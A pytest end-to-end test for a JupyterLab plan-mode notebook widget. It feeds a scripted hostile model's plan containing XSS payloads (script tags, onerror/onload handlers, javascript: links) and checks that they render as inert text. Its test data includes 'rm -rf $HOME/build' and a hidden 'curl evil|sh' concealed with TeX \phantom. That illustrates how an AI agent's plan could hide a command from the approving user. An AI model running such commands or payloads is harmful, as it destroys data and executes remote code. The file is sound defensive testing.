"""A real JupyterLab in headless Chromium runs the plan-mode notebook against a hostile model.

The test starts JupyterLab on 127.0.0.1 (a token, scratch HOME, config, data and runtime
folders) on a scratch copy of ``notebooks/02_plan_mode.ipynb`` with its outputs cleared, and
puts ``tests/scripts/browser_hostile_plan.yaml`` in place of the notebook's own script: the
same flow (plan -> ExitPlanMode -> approve -> Write -> done), but the plan and the streamed
replies carry ``<script>``, ``onerror``/``onload`` handlers, ``javascript:`` links, an iframe
and a style sheet, each of which would set ``window.__pwned`` and call ``alert()`` if it ran.

Debian's Chromium (``/usr/bin/chromium``), driven by Playwright for Python (no browser
download), runs the cells one at a time as a user would, until the plan card appears; it
checks that the plan is rendered as Markdown and that no script ran, clicks Approve with the
mouse, sees the mode marker come back to the resting mode and the approved work run (the file
on disk, the turn's footer), then runs the rest of the notebook. Screenshots go to
``test-artifacts/`` (``PLAN_WIDGETS_DOCS_IMG=1`` also refreshes ``docs/img/plan-card.png``).
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytestmark = [pytest.mark.e2e, pytest.mark.browser]

REPO = Path(__file__).resolve().parents[1]
NOTEBOOK = REPO / "notebooks" / "02_plan_mode.ipynb"
HOSTILE = Path(__file__).parent / "scripts" / "browser_hostile_plan.yaml"
ARTIFACTS = REPO / "test-artifacts"
DOCS_IMG = REPO / "docs" / "img" / "plan-card.png"
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]
PLAN_HEADING = "Plan: add a greeting"  # the heading of the hostile script's plan
# TeX the hostile plan carries, which must show as written (never typeset: \phantom would hide
# the "curl evil|sh" on the card the user approves).
PLAN_TEX = ("rm -rf $HOME/build", "it costs $5", r"$$\phantom{;curl evil|sh;}$$")
PLAN_TEX_CODE = "cp $SRC/x /tmp"  # inside inline code
# What MathJax leaves in the page when it typesets something (v2, v3/v4).
MATHJAX = "mjx-container, mjx-math, .MathJax, .MathJax_Display, .MathJax_Preview"
WRITTEN = "hello.py"  # the file the approved plan writes (relative to the notebook)
# Elements and attributes that must never appear in an output: each would be a live payload.
EXECUTABLE = (
    "script, iframe, object, embed, style, [onerror], [onload], [onclick], "
    "a[href^='javascript:' i], [src^='javascript:' i], [src^='data:' i]"
)
CELL_TIMEOUT = 60  # seconds any one cell may run
UI_TIMEOUT = 30  # seconds any one thing may take to appear on the page


# -- JupyterLab ------------------------------------------------------------------------------
def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _settings(config_dir: Path) -> None:
    """No news toast, no update check, and every cell kept in the DOM (no windowing)."""
    user = config_dir / "lab" / "user-settings" / "@jupyterlab"
    for ext, name, value in (
        ("apputils-extension", "notification", {"fetchNews": "false", "checkForUpdates": False}),
        ("notebook-extension", "tracker", {"windowingMode": "none"}),
    ):
        (user / ext).mkdir(parents=True, exist_ok=True)
        (user / ext / f"{name}.jupyterlab-settings").write_text(json.dumps(value))


def _scripted_path(nb: dict[str, Any]) -> str:
    """The script the notebook's ``%%claude --scripted PATH`` cells name (exactly one)."""
    found = set()
    for cell in nb["cells"]:
        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        found.update(re.findall(r"--scripted[ =](\S+)", src))
    assert len(found) == 1, f"the notebook should name one --scripted file, found {found}"
    return found.pop()


def _prepare(root: Path) -> Path:
    """A scratch copy of the plan-mode notebook (outputs cleared) with the hostile script."""
    assert NOTEBOOK.exists(), f"{NOTEBOOK.relative_to(REPO)} is missing"
    nb = json.loads(NOTEBOOK.read_text(encoding="utf-8"))
    assert nb.get("metadata", {}).get("kernelspec", {}).get("name"), (
        "the notebook needs metadata.kernelspec, or JupyterLab asks for a kernel"
    )
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = []
            cell["execution_count"] = None
    dest = root / NOTEBOOK.name
    dest.write_text(json.dumps(nb, indent=1), encoding="utf-8")
    script = root / _scripted_path(nb)
    script.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy(HOSTILE, script)
    return dest


@contextlib.contextmanager
def jupyterlab(tmp: Path, root: Path) -> Iterator[tuple[str, str, dict[str, str]]]:
    """Run JupyterLab on 127.0.0.1 with a token; yields (base url, token, env). Stops it."""
    dirs = {k: tmp / k.lower() for k in (
        "HOME", "TMPDIR", "JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR", "JUPYTER_RUNTIME_DIR",
        "IPYTHONDIR",
    )}
    for d in dirs.values():
        d.mkdir(parents=True, exist_ok=True)
    _settings(dirs["JUPYTER_CONFIG_DIR"])
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("ANTHROPIC_", "CLAUDE_", "JUPYTER_")) and k != "CLAUDECODE"}
    env.update({k: str(v) for k, v in dirs.items()})
    env["PYDEVD_DISABLE_FILE_VALIDATION"] = "1"
    token = secrets.token_hex(16)
    port = _free_port()
    jupyter = Path(sys.executable).parent / "jupyter"
    log = (tmp / "jupyterlab.log").open("wb")
    proc = subprocess.Popen(
        [str(jupyter), "lab", "--no-browser", "--allow-root", "--ip=127.0.0.1",
         f"--port={port}", "--ServerApp.port_retries=0", f"--IdentityProvider.token={token}",
         f"--ServerApp.root_dir={root}"],
        cwd=root, env=env, stdout=log, stderr=subprocess.STDOUT, start_new_session=True,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            assert proc.poll() is None, f"jupyter lab exited:\n{_tail(tmp / 'jupyterlab.log')}"
            try:
                with urllib.request.urlopen(f"{base}/api/status?token={token}", timeout=2) as r:
                    if r.status == 200:
                        break
            except OSError:
                pass
            assert time.monotonic() < deadline, (
                f"jupyter lab not ready in 60 s:\n{_tail(tmp / 'jupyterlab.log')}"
            )
            time.sleep(0.2)
        yield base, token, env
    finally:
        with contextlib.suppress(OSError):
            req = urllib.request.Request(f"{base}/api/shutdown?token={token}", method="POST")
            urllib.request.urlopen(req, timeout=10).close()
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            proc.terminate()
            try:
                proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait(timeout=10)
        log.close()
        _kill_leftovers(str(dirs["HOME"]))


def _tail(path: Path, n: int = 40) -> str:
    try:
        return "\n".join(path.read_text(errors="replace").splitlines()[-n:])
    except OSError:
        return ""


def _our_processes(home: str) -> list[tuple[int, list[str]]]:
    """Processes (pid, argv) whose environment has our scratch HOME: the ones we started."""
    found = []
    marker = f"HOME={home}".encode()
    for p in Path("/proc").iterdir():
        if not p.name.isdigit() or int(p.name) == os.getpid():
            continue
        try:
            if marker not in (p / "environ").read_bytes().split(b"\0"):
                continue
            argv = (p / "cmdline").read_bytes().decode(errors="replace").split("\0")
        except OSError:
            continue
        found.append((int(p.name), argv))
    return found


def _kill_leftovers(home: str) -> None:
    for pid, _argv in _our_processes(home):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)


# -- the page ------------------------------------------------------------------------------------
def _browser(pw: Any, profile: Path) -> Any:
    return pw.chromium.launch_persistent_context(
        user_data_dir=str(profile), executable_path=str(CHROMIUM), headless=True,
        args=CHROMIUM_ARGS, viewport={"width": 1280, "height": 1400},
    )


def _run_cell(page: Any, cells: Any, i: int) -> None:
    """Run cell ``i`` with Shift+Enter (as a user would); wait until a code cell has finished."""
    from playwright.sync_api import expect

    cell = cells.nth(i)
    active = re.compile(r"\bjp-mod-active\b")
    if not active.search(cell.get_attribute("class") or ""):
        cell.locator(".jp-InputPrompt").first.click()  # a click on a button moved the focus
        page.keyboard.press("Escape")
    expect(cell).to_have_class(active)
    page.keyboard.press("Shift+Enter")
    if "jp-CodeCell" in (cell.get_attribute("class") or ""):
        expect(cell.locator(".jp-InputPrompt")).to_have_text(
            re.compile(r"\[\d+\]"), timeout=CELL_TIMEOUT * 1000
        )


def _pending_plan_card(page: Any) -> Any:
    """The plan card whose Approve button is still enabled, or None."""
    approve = page.locator(".pw-card-plan button.jupyter-button.widget-button:not([disabled])",
                           has_text=re.compile(r"^\s*Approve\s*$"))
    if approve.count() == 0:
        return None
    return approve.first


def test_plan_mode_notebook_in_a_real_browser(tmp_path: Path) -> None:
    # Missing parts fail (CI installs them), they do not skip.
    if not CHROMIUM.exists():
        pytest.fail(
            f"Chromium is missing at {CHROMIUM}: install Debian's chromium package "
            "(apt-get install -y chromium; scripts/test does it when run as root)",
            pytrace=False,
        )
    try:
        from playwright.sync_api import expect, sync_playwright
    except ImportError:
        pytest.fail("playwright for Python is missing: pip install -e '.[browser]'",
                    pytrace=False)

    root = tmp_path / "lab"
    root.mkdir()
    notebook = _prepare(root)
    ARTIFACTS.mkdir(exist_ok=True)
    dialogs: list[str] = []

    with jupyterlab(tmp_path, root) as (base, token, env), sync_playwright() as pw:
        context = _browser(pw, tmp_path / "chromium-profile")
        try:
            page = context.new_page()
            page.set_default_timeout(UI_TIMEOUT * 1000)
            expect.set_options(timeout=UI_TIMEOUT * 1000)

            def on_dialog(d: Any) -> None:
                dialogs.append(f"{d.type}: {d.message}")
                d.dismiss()

            page.on("dialog", on_dialog)
            page.goto(f"{base}/lab/tree/{notebook.name}?token={token}",
                      timeout=UI_TIMEOUT * 1000)
            panel = page.locator(".jp-NotebookPanel")
            cells = panel.locator(".jp-Notebook .jp-Cell")
            n = len(json.loads(notebook.read_text(encoding="utf-8"))["cells"])
            expect(cells).to_have_count(n, timeout=60_000)
            # The kernel is up and idle (the toolbar names it, the indicator says idle).
            expect(panel.locator(".jp-Toolbar-kernelName")).not_to_have_text(
                re.compile("No Kernel"), timeout=60_000)
            expect(panel.locator(".jp-Notebook-ExecutionIndicator[data-status='idle']")
                   ).to_have_count(1, timeout=60_000)
            # Select the first cell (command mode), then run cells one at a time.
            cells.first.locator(".jp-InputPrompt, .jp-Cell-inputArea").first.click()
            page.keyboard.press("Escape")

            # 1. Run until the plan card waits for the user.
            i = 0
            approve = None
            while i < n and approve is None:
                _run_cell(page, cells, i)
                i += 1
                approve = _pending_plan_card(page)
            assert approve is not None, "no plan card waited for approval"
            card = page.locator(".pw-card-plan").first

            # 2. No script ran; the plan is Markdown: a heading element, a list, inline code.
            _assert_nothing_ran(page, dialogs)
            md = card.locator(".jp-RenderedMarkdown")
            expect(md.locator("h1, h2").first).to_have_text(
                re.compile(rf"^{re.escape(PLAN_HEADING)}\W*$"))  # JupyterLab adds a ¶ anchor
            expect(md.locator("ol > li")).to_have_count(2)
            expect(md.locator("code", has_text=WRITTEN).first).to_be_visible()
            # ... and the hostile HTML in it shows as text, inert.
            expect(md).to_contain_text('<script>window.__pwned = 1; alert("pwned: plan script")')
            expect(md).to_contain_text("<img src=x onerror=")
            # ... and its TeX delimiters show as written, not as math.
            for tex in PLAN_TEX:
                expect(md).to_contain_text(tex)
            expect(md.locator("code", has_text=re.compile(rf"^{re.escape(PLAN_TEX_CODE)}$"))
                   ).to_have_count(1)
            _assert_no_math(card)
            # The streamed reply (HTML split across deltas) shows as text too.
            expect(page.locator(".pw-turn").first).to_contain_text(
                "<svg onload=\"window.__pwned = 13")
            card.scroll_into_view_if_needed()
            card.screenshot(path=str(ARTIFACTS / "plan-card.png"))

            # 3. The mode marker says plan (confirmed by the CLI). Approve with the mouse; the
            # marker comes back to the resting mode.
            bar = page.locator(".pw-control-bar").first
            confirmed = bar.locator("span[title='confirmed by the CLI']")
            expect(confirmed).to_have_text("mode plan")
            tooltip = approve.get_attribute("title") or ""
            m = re.match(r"Back to (\w+)", tooltip)
            assert m, f"the Approve button should say the mode it goes back to: {tooltip!r}"
            resting = m.group(1)
            approve.click()
            # the status line: a live card's, and the static card's once the turn has ended
            status = card.locator(".pw-card-status")
            expect(status).not_to_contain_text("Waiting for you")
            expect(status).to_contain_text("Approved", timeout=1000)
            expect(confirmed).to_have_text(f"mode {resting}")

            # 4. The approved work runs in the same turn: the file is written, the turn ends
            # well (its footer shows ✓) and its output becomes static. The agent works in a
            # scratch folder of the notebook's (under TMPDIR), which the notebook's last cell
            # removes: look before that.
            turn = page.locator(".pw-turn.pw-static").first
            expect(turn.locator(".pw-footer", has_text="✓")).to_have_count(
                1, timeout=CELL_TIMEOUT * 1000)
            expect(turn.locator(".jupyter-widgets")).to_have_count(0)
            expect(card).to_contain_text("Approved")
            expect(turn).to_contain_text(f"{WRITTEN}")
            written = [p for d in (root, Path(env["TMPDIR"])) for p in d.rglob(WRITTEN)]
            assert written, "the approved plan's file was not written"
            card.screenshot(path=str(ARTIFACTS / "plan-card-approved.png"))
            # Seconds later (math is typeset after the Markdown is rendered): still no math, in
            # the card or in the turn (its Write tool view holds the plan's text as JSON).
            _assert_no_math(turn)
            for tex in PLAN_TEX:
                expect(card).to_contain_text(tex)
            tool_pre = turn.locator("details.pw-tool pre", has_text="curl evil").first
            assert "rm -rf $HOME/build" in (tool_pre.text_content() or "")
            assert r"\\phantom{;curl evil|sh;}" in (tool_pre.text_content() or "")  # JSON
            turn.screenshot(path=str(ARTIFACTS / "plan-turn.png"))

            # 5. The rest of the notebook runs (its own checks of mode, file and events).
            while i < n:
                _run_cell(page, cells, i)
                i += 1
            page.screenshot(path=str(ARTIFACTS / "plan-notebook.png"), full_page=True)
            _assert_nothing_ran(page, dialogs)
            errors = page.locator(".jp-OutputArea-output", has_text="most recent call last")
            assert errors.count() == 0, f"a cell failed:\n{errors.first.inner_text()}"

            # The kernel JupyterLab started is the venv's python.
            kernels = [argv for _pid, argv in _our_processes(env["HOME"])
                       if any("ipykernel_launcher" in a for a in argv)]
            assert kernels, "no kernel process found"
            assert all(Path(a[0]) == Path(sys.executable) for a in kernels), kernels
        except BaseException:
            with contextlib.suppress(Exception):
                page.screenshot(path=str(ARTIFACTS / "browser-failure.png"), full_page=True)
            raise
        finally:
            context.close()

    if os.environ.get("PLAN_WIDGETS_DOCS_IMG") == "1":
        DOCS_IMG.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(ARTIFACTS / "plan-card.png", DOCS_IMG)


def _assert_no_math(where: Any) -> None:
    typeset = where.locator(MATHJAX)
    found = [typeset.nth(k).evaluate("e => e.outerHTML.slice(0, 200)")
             for k in range(typeset.count())]
    assert found == [], f"model text was typeset as math: {found}"


def _assert_nothing_ran(page: Any, dialogs: list[str]) -> None:
    pwned = page.evaluate("() => window.__pwned")
    assert pwned is None and dialogs == [], (
        f"a hostile payload ran: window.__pwned = {pwned}, dialogs: {dialogs}"
    )
    live = page.locator(".jp-OutputArea").locator(EXECUTABLE)
    found = [live.nth(k).evaluate("e => e.outerHTML.slice(0, 200)") for k in range(live.count())]
    assert found == [], f"executable HTML reached the page: {found}"
